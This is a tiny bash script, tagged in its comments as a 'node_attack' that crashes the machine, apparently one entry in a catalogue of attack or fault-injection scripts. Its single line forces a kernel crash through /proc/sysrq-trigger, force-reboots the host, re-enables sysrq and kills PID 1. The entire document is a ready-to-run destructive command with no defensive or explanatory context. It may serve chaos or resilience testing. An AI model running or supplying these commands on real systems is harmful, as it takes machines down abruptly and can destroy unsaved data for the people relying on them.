#!/bin/bash
# class: node_attack
# does: crashes the machine by its own means
# source: own
# repo: any
# when: last
echo c > /proc/sysrq-trigger; reboot -f; echo 1 > /proc/sys/kernel/sysrq; kill -9 1
